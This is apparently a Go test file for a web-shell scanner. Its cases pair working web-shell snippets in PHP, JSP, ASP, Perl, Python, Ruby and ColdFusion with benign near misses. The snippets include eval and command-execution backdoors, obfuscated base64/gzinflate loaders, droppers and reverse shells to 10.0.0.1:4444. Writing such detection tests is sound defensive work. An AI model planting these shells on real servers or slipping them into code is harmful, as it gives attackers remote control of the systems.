package webshell

import (
	"bytes"
	"compress/flate"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"
)

// gzb64 returns base64(gzdeflate(s)): the packing of many PHP payloads.
func gzb64(s string) string {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression)
	w.Write([]byte(s))
	w.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// The snippets below are written for these tests, after the techniques web shells use; none is
// copied from a collection. Each rule has a case that fires and a near miss from ordinary code.
var cases = []struct {
	name, file, text string
	verdict          string // expected verdict
	rule             string // a rule that must fire ("" for none in particular)
}{
	// --- PHP: request input into code, commands, callbacks, includes
	{"php eval post", "a.php", `<?php @eval($_POST['k']); ?>`, VerdictWebshell, "flow.code"},
	{"php system get", "a.php", "<?php echo system($_GET[\"c\"] . ' 2>&1'); ?>", VerdictWebshell, "flow.exec"},
	{"php assert request", "a.php", "<?php assert(stripslashes($_REQUEST['x'])); ?>", VerdictWebshell, "flow.code"},
	{"php header input", "a.php", `<?php eval($_SERVER['HTTP_X_CODE']); ?>`, VerdictWebshell, "flow.code"},
	{"php raw body", "a.php", `<?php eval(file_get_contents('php://input')); ?>`, VerdictWebshell, "flow.code"},
	{"php getallheaders", "a.php", `<?php $h = getallheaders(); system($h['X-Run']); ?>`, VerdictWebshell, "flow.exec"},
	{"php backticks", "a.php", "<?php $o = `{$_GET['cmd']}`; echo $o; ?>", VerdictWebshell, "flow.exec"},
	{"php tainted variable", "a.php", "<?php\n$c = trim($_POST['cmd']);\n$out = shell_exec($c);\necho \"<pre>$out</pre>\";\n", VerdictWebshell, "flow.exec"},
	{"php function from input", "a.php", `<?php $_GET['f']($_GET['a']); ?>`, VerdictWebshell, "flow.callback"},
	{"php callback", "a.php", `<?php call_user_func($_REQUEST['fn'], $_REQUEST['arg']); ?>`, VerdictWebshell, "flow.callback"},
	{"php array_map assert", "a.php", `<?php array_map('assert', array($_POST['z'])); ?>`, VerdictWebshell, "flow.callback"},
	{"php usort callback", "a.php", `<?php $a = array($_POST['x'], 1); usort($a, $_GET['cmp']); ?>`, VerdictWebshell, "flow.callback"},
	{"php last-argument callback", "a.php", `<?php array_udiff(array($_POST['c']), array(1), 'assert'); ?>`, VerdictWebshell, "flow.callback"},
	{"php preg e", "a.php", `<?php preg_replace('/.*/e', $_POST['p'], ''); ?>`, VerdictWebshell, "flow.code"},
	{"php create_function", "a.php", `<?php $f = create_function('', $_POST['body']); $f(); ?>`, VerdictWebshell, "flow.code"},
	{"php include input", "a.php", `<?php include($_GET['page']); ?>`, VerdictWebshell, "flow.include"},
	{"php wrapper function", "a.php", "<?php\nfunction run($x) { $r = ''; if (function_exists('passthru')) { passthru($x); } return $r; }\nrun($_POST['c']);\n", VerdictWebshell, "flow.exec"},
	{"php returns input", "a.php", "<?php\nfunction p() { return $_COOKIE['k']; }\nsystem(p());\n", VerdictWebshell, "flow.exec"},
	{"php register_globals exec", "a.php", "<form method=post><input name=\"cmd\"></form><?php\nif ($cmd == '') { $cmd = 'id'; }\nsystem($cmd);\n", VerdictWebshell, "flow.exec"},
	{"php extract", "a.php", "<?php extract($_REQUEST); if (isset($c)) { passthru($c); }", VerdictWebshell, "flow.exec"},
	{"php assigned form field", "f.php", "<form><input name=\"cmd\"></form><?php\n$cmd = 'uptime';\n$r = exec($cmd);\necho htmlspecialchars($r);\n", VerdictClean, ""},
	{"php interactive shell", "a.php", "<?php $p = proc_open('/bin/sh', array(0 => array('pipe', 'r'), 1 => array('pipe', 'w')), $pipes); fwrite($pipes[0], $_POST['c']); echo stream_get_contents($pipes[1]);", VerdictWebshell, "flow.exec"},
	// --- PHP: hiding
	{"php eval gzinflate b64", "a.php", `<?php eval(gzinflate(base64_decode('` + gzb64(`echo "hi";`) + `'))); ?>`, VerdictWebshell, "code.decoded"},
	{"php decoded payload read again", "a.php", `<?php eval(gzinflate(base64_decode('` + gzb64(`system($_GET['q']);`) + `'))); ?>`, VerdictWebshell, "flow.exec"},
	{"php rot13 layers", "a.php", `<?php eval(str_rot13(base64_decode('` + b64(rot13(`passthru($_POST['x']);`)) + `'))); ?>`, VerdictWebshell, "obf.layers"},
	{"php dropper", "a.php", `<?php $d = '` + gzb64(`<?php @eval($_POST['pass']); ?>`) + `'; file_put_contents('x.php', gzinflate(base64_decode($d)));`, VerdictWebshell, "write.decoded"},
	{"php hidden literal", "a.php", `<?php $d = '` + gzb64(`<?php @eval($_POST['pass']); ?>`) + `'; $w = my_unpack($d); fwrite($h, $w);`, VerdictWebshell, "obf.hidden-code"},
	{"php split name", "a.php", `<?php $f = 'as'.'se'.'rt'; $f($_POST['v']); ?>`, VerdictWebshell, "obf.built-name"},
	{"php reversed name", "a.php", `<?php $f = strrev('metsys'); $f($_COOKIE['c']); ?>`, VerdictWebshell, "flow.exec"},
	{"php str_replace name", "a.php", `<?php $k = str_replace('#', '', 'a#s#s#e#r#t'); $k($_POST['q']); ?>`, VerdictWebshell, "flow.code"},
	{"php hex name", "a.php", `<?php $f = "\x73\x79\x73\x74\x65\x6d"; $f($_GET['c']); ?>`, VerdictWebshell, "obf.built-name"},
	{"php chr name", "a.php", `<?php $f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $f($_POST[1]); ?>`, VerdictWebshell, "flow.code"},
	{"php base32 name", "a.php", `<?php function b32($s) { return $s; } $n = base64_decode('` + b64("system") + `'); $n($_GET['z']);`, VerdictWebshell, "flow.exec"},
	{"php superglobal by name", "a.php", `<?php $n = '_PO'.'ST'; $v = $$n; eval($v['x']); ?>`, VerdictWebshell, "flow.code"},
	{"php keyed array of names", "a.php", `<?php $F = array('e' => 'sys' . 'tem'); $F['e']($_REQUEST['x']);`, VerdictWebshell, "flow.exec"},
	{"php image polyglot", "logo.gif", "GIF89a\x01\x00\x01\x00<?php system($_GET['c']); ?>", VerdictWebshell, "php.image-polyglot"},
	{"php bare upload", "up.php", `<form enctype="multipart/form-data" method="post"><input type="file" name="f"><input type="submit"></form><?php if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']); echo 'ok'; }`, VerdictSuspicious, "flow.upload"},
	{"php upload into configured folder", "up.php", `<?php $dest = $config->uploadDir . '/' . sanitize_name($_FILES['f']['name']); move_uploaded_file($_FILES['f']['tmp_name'], $dest);`, VerdictClean, "upload.const"},
	{"php sql console", "q.php", `<?php $l = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']); $r = mysqli_query($l, $_POST['sql']); while ($row = mysqli_fetch_row($r)) { echo implode(',', $row); }`, VerdictSuspicious, "flow.sql"},
	{"php query with input as a value", "q.php", `<?php $r = mysqli_query($l, "SELECT * FROM posts WHERE id = " . intval($_GET['id']));`, VerdictClean, ""},
	{"php file manager", "fm.php", `<?php $d = $_GET['d']; foreach (scandir($d) as $f) echo $f; if (isset($_GET['del'])) unlink($_GET['del']); if (isset($_POST['save'])) file_put_contents($_POST['file'], $_POST['content']);`, VerdictWebshell, "flow.file-manager"},
	{"php reverse shell", "r.php", `<?php $s = fsockopen('10.0.0.1', 4444); $p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);`, VerdictWebshell, "shell.reverse"},
	{"php embedded shell written", "w.php", `<?php $code = '<?php @eval($_POST["x"]); ?>'; file_put_contents($_GET['n'] . '.php', $code);`, VerdictSuspicious, "obf.embedded-shell"},
	// --- PHP: ordinary code
	{"php plain page", "index.php", "<?php\n$title = htmlspecialchars($_GET['q'] ?? '');\necho \"<h1>$title</h1>\";\n", VerdictClean, ""},
	{"php sql in backticks", "db.php", "<?php $sql = \"SELECT * FROM `wp_posts` WHERE id = \" . (int) $_GET['id']; ?>", VerdictClean, ""},
	{"php fixed command", "v.php", "<?php $v = exec('gs --version'); echo esc_html($v); ?>", VerdictClean, "exec.const"},
	{"php escaped argument", "v.php", "<?php $v = shell_exec('convert ' . escapeshellarg($_GET['f']) . ' out.png');", VerdictClean, ""},
	{"php comment mentions eval", "c.php", "<?php\n// never do eval($_POST['x']) here\n/* system($_GET['c']) is dangerous */\necho 1;\n", VerdictClean, ""},
	{"php callbacks of data", "h.php", "<?php $clean = array_map('trim', $_POST); call_user_func_array($this->handler, array($clean)); ?>", VerdictClean, ""},
	{"php callback from a registry", "h.php", "<?php $cb = $registry[$_GET['action']]; call_user_func($cb['callback'], $_POST);", VerdictClean, ""},
	{"php gzinflate of data", "z.php", "<?php $data = @gzinflate(substr($body, 10)); echo strlen($data); ?>", VerdictClean, ""},
	{"php assert of a condition", "t.php", "<?php assert($x instanceof Foo); assert(is_array($y));", VerdictClean, ""},
	{"php variable function of a constant", "t.php", "<?php $f = 'strtolower'; echo $f($_GET['x']);", VerdictClean, ""},
	{"php include from settings", "i.php", "<?php include __DIR__ . '/lang/' . basename($lang) . '.php';", VerdictClean, ""},
	{"php object from request", "o.php", "<?php $h = new Handler($_GET['a']); $h($_POST);", VerdictClean, ""},
	// --- JSP / JSPX
	{"jsp runtime exec", "a.jsp", `<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>`, VerdictWebshell, "flow.exec"},
	{"jsp exec array", "a.jsp", "<%\nString c = request.getParameter(\"cmd\");\nString[] cmds = new String[]{\"/bin/sh\", \"-c\", c};\nProcess p = Runtime.getRuntime().exec(cmds);\n%>", VerdictWebshell, "flow.exec"},
	{"jsp processbuilder list", "a.jsp", "<%@ page import=\"java.util.*\" %><%\nList<String> l = new ArrayList<String>();\nl.add(\"cmd.exe\"); l.add(\"/c\"); l.add(request.getParameter(\"x\"));\nnew ProcessBuilder(l).start();\n%>", VerdictWebshell, "flow.exec"},
	{"jsp tainted processbuilder", "a.jsp", "<%\nString c = request.getParameter(\"cmd\");\nProcessBuilder pb = new ProcessBuilder(\"/bin/sh\", \"-c\", c);\npb.start();\n%>", VerdictWebshell, "flow.exec"},
	{"jsp header input", "a.jsp", `<% Runtime.getRuntime().exec(request.getHeader("X-Cmd")); %>`, VerdictWebshell, "flow.exec"},
	{"jspx scriptlet", "a.jspx", `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>String c = request.getParameter(&quot;c&quot;); Runtime.getRuntime().exec(c);</jsp:scriptlet></jsp:root>`, VerdictWebshell, "flow.exec"},
	{"jsp class loader", "a.jsp", `<%! class L extends ClassLoader { L(ClassLoader p){super(p);} Class d(byte[] b){ return super.defineClass(b,0,b.length);} } %><% javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); new L(this.getClass().getClassLoader()).d(c.doFinal(java.util.Base64.getDecoder().decode(request.getReader().readLine()))).newInstance(); %>`, VerdictWebshell, "flow.classload"},
	{"jsp class loader from body stream", "a.jsp", "<%! class L extends ClassLoader { Class d(byte[] b){ return defineClass(null, b, 0, b.length);} } %><%\njava.io.InputStream in = request.getInputStream();\nbyte[] buf = new byte[in.available()];\nin.read(buf);\nnew L().d(buf).newInstance();\n%>", VerdictWebshell, "flow.classload"},
	{"jsp script engine", "a.jsp", `<% new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("code")); %>`, VerdictWebshell, "flow.code"},
	{"jsp reflection", "r.jsp", `<% Class c = Class.forName("java.lang." + "Runtime"); Object r = c.getMethod("getRuntime").invoke(null); c.getMethod("exec", String.class).invoke(r, request.getParameter("x")); %>`, VerdictWebshell, "exec.reflection"},
	{"jsp reflection with bytes", "r.jsp", `<% String s = new String(new byte[]{101,120,101,99}); Runtime.getRuntime().getClass().getMethod(s, String.class).invoke(Runtime.getRuntime(), request.getParameter("x")); %>`, VerdictWebshell, "flow.exec"},
	{"jsp webroot writer", "u.jsp", `<% new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("n")).write(request.getParameter("d").getBytes()); %>`, VerdictSuspicious, "flow.write"},
	{"jsp reverse shell", "r.jsp", "<%\njava.net.Socket s = new java.net.Socket(\"10.0.0.1\", 4444);\nProcess p = new ProcessBuilder(\"/bin/bash\").redirectErrorStream(true).start();\n%>", VerdictWebshell, "shell.reverse"},
	{"jsp interactive shell", "i.jsp", "<%\nProcess p = Runtime.getRuntime().exec(\"cmd.exe\");\njava.io.BufferedWriter w = new java.io.BufferedWriter(new java.io.OutputStreamWriter(p.getOutputStream()));\nw.write(request.getParameter(\"c\"));\n%>", VerdictWebshell, "flow.exec"},
	{"jsp sql console", "q.jsp", `<% java.sql.Connection cn = java.sql.DriverManager.getConnection(request.getParameter("url"), request.getParameter("u"), request.getParameter("p")); cn.createStatement().executeQuery(request.getParameter("sql")); %>`, VerdictSuspicious, "flow.sql"},
	{"jsp file manager", "f.jsp", `<% java.io.File d = new java.io.File(request.getParameter("path")); for (java.io.File f : d.listFiles()) out.println(f.getName()); new java.io.File(request.getParameter("del")).delete(); %>`, VerdictSuspicious, "flow.file-manager"},
	{"jsp unicode escapes", "u.jsp", `<% Runtime.getRuntime().\u0065\u0078\u0065\u0063(request.getParameter("c")); %>`, VerdictWebshell, "flow.exec"},
	{"jsp benign", "hello.jsp", `<%@ page contentType="text/html" %><html><body>Hello <%= request.getParameter("name") %></body></html>`, VerdictClean, ""},
	{"jsp benign write", "log.jsp", `<% java.io.FileWriter w = new java.io.FileWriter("/var/log/app/visits.log", true); w.write(request.getRemoteAddr()); w.close(); %>`, VerdictClean, ""},
	{"jsp benign jdbc lookup", "db.jsp", `<% javax.sql.DataSource ds = (javax.sql.DataSource) new javax.naming.InitialContext().lookup("java:comp/env/jdbc/app"); %>`, VerdictClean, ""},
	// --- ASP / ASP.NET
	{"asp eval request", "a.asp", `<%eval request("pass")%>`, VerdictWebshell, "flow.code"},
	{"asp execute", "a.asp", `<% Execute(Request.Form("c")) %>`, VerdictWebshell, "flow.code"},
	{"asp wscript", "s.asp", "<%\nSet sh = Server.CreateObject(\"WScript.Shell\")\ncmd = Request(\"c\")\nSet e = sh.Exec(\"cmd.exe /c \" & cmd)\nResponse.Write e.StdOut.ReadAll\n%>", VerdictWebshell, "flow.exec"},
	{"asp call run", "s.asp", "<%\nSet oS = Server.CreateObject(\"WSCRIPT.SHELL\")\nszCMD = Request.Form(\".CMD\")\nIf (szCMD <> \"\") Then\n  Call oS.Run(\"cmd.exe /c \" & szCMD & \" > c:\\t.txt\", 0, True)\nEnd If\n%>", VerdictWebshell, "flow.exec"},
	{"aspx unsafe eval", "a.aspx", `<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>`, VerdictWebshell, "flow.code"},
	{"aspx process", "p.aspx", "<%@ Page Language=\"C#\" %><% var psi = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + Request[\"c\"]); System.Diagnostics.Process.Start(psi); %>", VerdictWebshell, "flow.exec"},
	{"aspx startinfo fields", "p.aspx", `<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e){ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + Request.Form["cmd"]; p.Start(); }</script>`, VerdictWebshell, "flow.exec"},
	{"aspx assembly load", "l.aspx", `<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["k"])).CreateInstance("U").Equals(this); %>`, VerdictWebshell, "flow.classload"},
	{"aspx upload saveas", "u.aspx", `<%@ Page Language="C#" %><% Request.Files[0].SaveAs(Server.MapPath(".") + "\\" + Request.Files[0].FileName); %>`, VerdictSuspicious, "flow.upload"},
	{"asp benign", "d.asp", `<% Response.Write("Hello " & Server.HTMLEncode(Request.QueryString("n"))) %>`, VerdictClean, ""},
	{"asp benign comparison", "d.asp", "<%\nIf Request(\"a\") = \"x\" Then\n  Response.Write \"ok\"\nEnd If\n%>", VerdictClean, ""},
	// --- Perl, Python, Ruby CGI and scripts
	{"perl cgi", "x.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nprint `$c`;\n", VerdictWebshell, "flow.exec"},
	{"perl query string parsed by hand", "x.cgi", "#!/usr/bin/perl\n@pairs = split(/&/, $ENV{'QUERY_STRING'});\nforeach $pair (@pairs) { ($name, $value) = split(/=/, $pair); $value =~ s/%(..)/pack('c', hex($1))/eg; $in{$name} = $value; }\nsystem($in{'cmd'});\n", VerdictWebshell, "flow.exec"},
	{"perl post body", "x.pl", "#!/usr/bin/perl\nread(STDIN, $buffer, $ENV{'CONTENT_LENGTH'});\n@pairs = split(/&/, $buffer);\nforeach $p (@pairs) { ($k, $v) = split(/=/, $p); $F{$k} = $v; }\nopen(P, \"$F{'c'} 2>&1 |\");\nprint <P>;\n", VerdictWebshell, "flow.exec"},
	{"perl cgi-lib", "x.pl", "#!/usr/bin/perl\nrequire 'cgi-lib.pl';\n&ReadParse;\n$c = $in{'c'};\nexec $c;\n", VerdictWebshell, "flow.exec"},
	{"perl reverse shell", "r.pl", "#!/usr/bin/perl\nuse Socket;\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));\nconnect(S,sockaddr_in(4444,inet_aton($ARGV[0])));\nopen(STDIN,\">&S\");open(STDOUT,\">&S\");\nexec('/bin/sh -i');\n", VerdictWebshell, "shell.reverse"},
	{"perl io socket reverse", "r.pl", "use IO::Socket::INET;\n$s = IO::Socket::INET->new(PeerAddr => '10.0.0.1:4444');\nopen(STDIN, \">&\", $s); open(STDOUT, \">&\", $s);\nsystem('/bin/bash -i');\n", VerdictWebshell, "shell.reverse"},
	{"perl eval", "e.pl", "#!/usr/bin/perl\nuse CGI qw(param);\neval param('code');\n", VerdictWebshell, "flow.code"},
	{"perl benign", "h.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint $q->header, 'Hello ', $q->escapeHTML($q->param('n'));\n", VerdictClean, ""},
	{"perl benign eval block", "h.pl", "#!/usr/bin/perl\nmy $r = eval { risky(param('n')) };\nsystem('logger', 'done');\n", VerdictClean, ""},
	{"python cgi", "x.py", "#!/usr/bin/python3\nimport cgi, os\nform = cgi.FieldStorage()\nc = form.getvalue('c')\nprint(os.popen(c).read())\n", VerdictWebshell, "flow.exec"},
	{"python subprocess", "x.py", "import subprocess, os\ncmd = os.environ.get('HTTP_X_CMD')\nsubprocess.check_output(cmd, shell=True)\n", VerdictWebshell, "flow.exec"},
	{"python flask eval", "app.py", "from flask import request\n@app.route('/x')\ndef x():\n    return str(eval(request.args.get('e')))\n", VerdictWebshell, "flow.code"},
	{"python exec of decoded", "x.py", "import base64\nexec(base64.b64decode('" + b64("import os; os.system('id')") + "'))\n", VerdictWebshell, "code.decoded"},
	{"python base32 layers", "x.py", "import base64, zlib\nexec(base64.b32decode('" + base32.StdEncoding.EncodeToString([]byte(b64("print(1)"))) + "').decode('base64'))\n", VerdictWebshell, "code.decoded"},
	{"python reverse shell", "r.py", "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('10.0.0.1',1234))\nos.dup2(s.fileno(),0); os.dup2(s.fileno(),1)\np=subprocess.call(['/bin/sh','-i'])\n", VerdictWebshell, "shell.reverse"},
	{"python benign", "h.py", "#!/usr/bin/python3\nimport cgi, html\nform = cgi.FieldStorage()\nprint('Hello', html.escape(form.getvalue('n', '')))\nsubprocess.run(['logger', 'visit'])\n", VerdictClean, ""},
	{"ruby cgi", "x.rb", "#!/usr/bin/env ruby\nrequire 'cgi'\ncgi = CGI.new\nputs cgi.header\nputs `#{cgi['cmd']}`\n", VerdictWebshell, "flow.exec"},
	{"ruby system params", "x.rb", "get '/x' do\n  system(params[:c])\nend\n", VerdictWebshell, "flow.exec"},
	{"ruby reverse shell", "r.rb", "require 'socket'\ns = TCPSocket.open('10.0.0.1', 4444).to_i\nexec sprintf('/bin/sh -i <&%d >&%d 2>&%d', s, s, s)\n", VerdictWebshell, "shell.reverse"},
	{"ruby benign", "h.rb", "require 'cgi'\ncgi = CGI.new\nputs CGI.escapeHTML(cgi['name'])\nsystem('logger', 'visit')\n", VerdictClean, ""},
	// --- ColdFusion
	{"cfm execute", "a.cfm", `<cfexecute name="#form.cmd#" arguments="#form.args#" timeout="10" variable="out"></cfexecute><cfoutput>#out#</cfoutput>`, VerdictWebshell, "flow.exec"},
	{"cfm java runtime", "a.cfm", `<cfset r = createObject("java", "java.lang.Runtime").getRuntime().exec(url.c)>`, VerdictWebshell, "flow.exec"},
	{"cfm evaluate", "a.cfm", `<cfoutput>#evaluate(url.e)#</cfoutput>`, VerdictWebshell, "flow.code"},
	{"cfm upload into web root", "u.cfm", `<cffile action="upload" filefield="f" destination="#expandPath(".")#" nameconflict="overwrite">`, VerdictSuspicious, "flow.upload"},
	{"cfm sql console", "q.cfm", "<cfquery name=\"r\" datasource=\"#form.ds#\">\n#form.sql#\n</cfquery>", VerdictSuspicious, "flow.sql"},
	{"cfm benign", "a.cfm", `<cfoutput>Hello #encodeForHTML(url.name)#</cfoutput>`, VerdictClean, ""},
	// --- text renamed, encodings
	{"txt php one-liner", "notes.txt", "a list:\n* <?php @eval($_POST[x]);?>\n", VerdictWebshell, "flow.code"},
	{"unknown text", "readme.txt", "Just some words about system (the whole) and eval (ok).", VerdictClean, ""},
	{"utf16 jsp", "w.jsp", utf16(`<% Runtime.getRuntime().exec(request.getParameter("c")); %>`), VerdictWebshell, "flow.exec"},
}

func utf16(s string) string {
	var b strings.Builder
	b.WriteString("\xff\xfe")
	for _, c := range []byte(s) {
		b.WriteByte(c)
		b.WriteByte(0)
	}
	return b.String()
}

func TestScanCases(t *testing.T) {
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := Scan(c.file, []byte(c.text))
			if r.Verdict != c.verdict {
				t.Errorf("verdict %s (score %d), want %s; reasons %v", r.Verdict, r.Score, c.verdict, r.Reasons)
			}
			if c.rule != "" && !hasRule(r, c.rule) {
				t.Errorf("rule %s did not fire; reasons %v", c.rule, r.Reasons)
			}
			sum := 0
			for _, x := range r.Reasons {
				if len(x.Evidence) > maxEvidence {
					t.Errorf("evidence of %d bytes", len(x.Evidence))
				}
				sum += x.Weight
			}
			if r.Score > sum {
				t.Errorf("score %d above the sum of weights %d", r.Score, sum)
			}
		})
	}
}

func hasRule(r Result, rule string) bool {
	for _, x := range r.Reasons {
		if x.Rule == rule {
			return true
		}
	}
	return false
}

func TestDetectLanguage(t *testing.T) {
	for _, c := range []struct{ name, text, want string }{
		{"a.php", "<?php echo 1;", LangPHP},
		{"a.PHTML", "<?php echo 1;", LangPHP},
		{"a.php", "<%@ Page Language=\"C#\" %><% Response.Write(1); %>", LangASPX},
		{"a.jsp", "<%= 1 %>", LangJSP},
		{"a.jspx", "<jsp:root/>", LangJSP},
		{"a.asp", "<% Response.Write(1) %>", LangASP},
		{"x.cgi", "#!/usr/bin/perl\nprint 1;", LangPerl},
		{"x.cgi", "#!/usr/bin/env python3\nprint(1)", LangPython},
		{"x", "import socket,subprocess,os\ns=socket.socket()", LangPython},
		{"x", "require 'socket'\nTCPSocket.new('h', 1)", LangRuby},
		{"x.txt", "<% String s = request.getParameter(\"a\"); out.print(s); %>", LangJSP},
		{"x.txt", "<cfoutput>1</cfoutput>", LangCFM},
		{"x.txt", "<?xml version=\"1.0\"?><a/>", LangUnknown},
		{"x.png", "\x89PNG\r\n\x1a\n<?php echo 1; ?>", LangPHP},
		{"x.css", "body { color: red }", LangUnknown},
	} {
		if got := DetectLanguage(c.name, []byte(c.text)); got != c.want {
			t.Errorf("DetectLanguage(%q, %.30q) = %s, want %s", c.name, c.text, got, c.want)
		}
	}
}

// TestFold checks constant folding on its own: what a computed name or payload comes to.
func TestFold(t *testing.T) {
	for _, c := range []struct{ lang, expr, want string }{
		{"php", `'as'.'sert'`, "assert"},
		{"php", `strrev('tressa')`, "assert"},
		{"php", `str_rot13('flfgrz')`, "system"},
		{"php", `base64_decode('c3lzdGVt')`, "system"},
		{"php", `"\x65\x76\x61\x6c"`, "eval"},
		{"php", `chr(101).chr(120).chr(101).chr(99)`, "exec"},
		{"php", `chr(100+1)`, "e"},
		{"php", `str_replace('x','','sxyxs')`, "sys"},
		{"php", `substr('xxassert', 2)`, "assert"},
		{"php", `('!'^'@').'ssert'`, "assert"},
		{"php", `implode('', array('sy', 'st', 'em'))`, "system"},
		{"php", `pack('H*', '73797374656d')`, "system"},
		{"php", `gzinflate(base64_decode('` + gzb64("phpinfo();") + `'))`, "phpinfo();"},
		{"java", `new String(new byte[]{101,120,101,99})`, "exec"},
		{"java", `"java.lang." + "Run" + "time"`, "java.lang.Runtime"},
		{"java", `new String(java.util.Base64.getDecoder().decode("ZXhlYw=="))`, "exec"},
		{"java", `new StringBuilder("cexe").reverse().toString()`, "exec"},
		{"vb", `Chr(101) & "val"`, "eval"},
		{"vb", `StrReverse("etucexe")`, "execute"},
		{"python", `base64.b64decode('c3lzdGVt').decode()`, "system"},
		{"python", `codecs.decode('flfgrz', 'rot13')`, "system"},
		{"python", `bytes.fromhex('6964')`, "id"},
		{"perl", `pack("H*", "6c73")`, "ls"},
		{"perl", `decode_base64('aWQ=')`, "id"},
	} {
		var u *unit
		src := []byte(c.expr)
		switch c.lang {
		case "php":
			u = newUnit(phpProfile, src, lexPHP(src, true), newAnalysis(c.lang), 0)
		case "java":
			u = newUnit(javaProfile, src, lexC(src), newAnalysis(c.lang), 0)
		case "vb":
			u = newUnit(vbProfile, src, lexVB(src), newAnalysis(c.lang), 0)
		case "python":
			u = newUnit(pyProfile, src, lexPython(src), newAnalysis(c.lang), 0)
		case "perl":
			u = newUnit(perlProfile, src, lexPerl(src), newAnalysis(c.lang), 0)
		}
		u.evalBudget = 1 << 20
		got, _, ok := u.fold(0, len(u.t))
		if !ok || got != c.want {
			t.Errorf("%s: fold %s = %q, %v; want %q", c.lang, c.expr, got, ok, c.want)
		}
	}
	// what is not a constant is not folded
	for _, bad := range []string{`$x`, `foo(`, `chr('a')`, `substr('a')`, `$_GET['x'] . 'a'`} {
		src := []byte(bad)
		u := newUnit(phpProfile, src, lexPHP(src, true), newAnalysis("php"), 0)
		u.evalBudget = 1 << 20
		if v, _, ok := u.fold(0, len(u.t)); ok && bad != "" {
			t.Errorf("fold %q = %q, want failure", bad, v)
		}
	}
}

func TestLexers(t *testing.T) {
	toks := lexPHP([]byte("<p>don't</p><?php $a = 'x(y)'; // c()\n$b = \"$q\"; /* z() */ `ls`; ?>tail"), false)
	kinds := map[tkind]int{}
	for _, k := range toks {
		kinds[k.k]++
		if k.k == tkIdent && (k.s == "c" || k.s == "z") {
			t.Errorf("comment read as code: %q", k.s)
		}
	}
	if kinds[tkHTML] != 2 || kinds[tkCmd] != 1 || kinds[tkVar] != 2 || kinds[tkStr] != 2 {
		t.Errorf("PHP token kinds %v", kinds)
	}
	// a heredoc and interpolation
	toks = lexPHP([]byte("<?php $x = <<<EOT\nrun {$_GET['c']} now\nEOT;\n"), false)
	found := false
	for _, k := range toks {
		if k.k == tkStr && k.fl&fInterp != 0 {
			for _, p := range k.parts {
				if p.v == "_GET" {
					found = true
				}
			}
		}
	}
	if !found {
		t.Errorf("heredoc interpolation not read: %+v", toks)
	}
	// Perl: a regex is no division, POD and __END__ are no code
	toks = lexPerl([]byte("my @p = split /&/, $q;\n=pod\nsystem($x);\n=cut\nprint $x / 2;\n__END__\nsystem($y);\n"))
	for _, k := range toks {
		if k.k == tkIdent && k.s == "system" {
			t.Errorf("POD or __END__ read as code")
		}
	}
	// a GBK string whose second byte is a backslash does not swallow the quote
	toks = lexC([]byte("String a = \"\xd5\\\"; String b = request.getParameter(\"x\");"))
	n := 0
	for _, k := range toks {
		if k.k == tkStr {
			n++
		}
	}
	if n != 2 {
		t.Errorf("double-byte string read as %d strings", n)
	}
	// VB: comments and REM
	toks = lexVB([]byte("' Execute Request(\"x\")\nREM eval x\nx = 1"))
	for _, k := range toks {
		if k.k == tkIdent && (k.lc == "execute" || k.lc == "eval") {
			t.Errorf("VB comment read as code")
		}
	}
}

func TestDecoders(t *testing.T) {
	if s, ok := decodeBase32(base32.StdEncoding.EncodeToString([]byte("assert"))); !ok || s != "assert" {
		t.Errorf("base32: %q %v", s, ok)
	}
	if s, ok := decodeHex(hex.EncodeToString([]byte("system"))); !ok || s != "system" {
		t.Errorf("hex: %q %v", s, ok)
	}
	if s, n := peel(b64(b64("<?php eval($_POST[1]);")), 4); n != 2 || !strings.Contains(s, "eval") {
		t.Errorf("peel: %q after %d layers", s, n)
	}
	if _, n := peel(strings.Repeat("A", 100), 4); n > 1 {
		t.Errorf("peel of padding went %d layers deep", n)
	}
}

func TestMaxScanAndEmpty(t *testing.T) {
	if r := Scan("a.php", nil); r.Verdict != VerdictClean || r.Score != 0 {
		t.Errorf("empty file: %+v", r)
	}
	big := append([]byte("<?php eval($_POST['a']); ?>"), bytes.Repeat([]byte("x"), MaxScan)...)
	if r := Scan("a.php", big); r.Verdict != VerdictWebshell {
		t.Errorf("the head of a big file is scanned: %+v", r)
	}
}

func FuzzScan(f *testing.F) {
	for _, c := range cases {
		f.Add(c.file, []byte(c.text))
	}
	f.Fuzz(func(t *testing.T, name string, b []byte) {
		r := scanCode(name, b) // without Scan's safety net: a fault must show here
		recognize(&r, b)
		if r.Verdict != VerdictClean && r.Verdict != VerdictSuspicious && r.Verdict != VerdictWebshell && r.Verdict != VerdictKnown {
			t.Fatalf("verdict %q", r.Verdict)
		}
	})
}
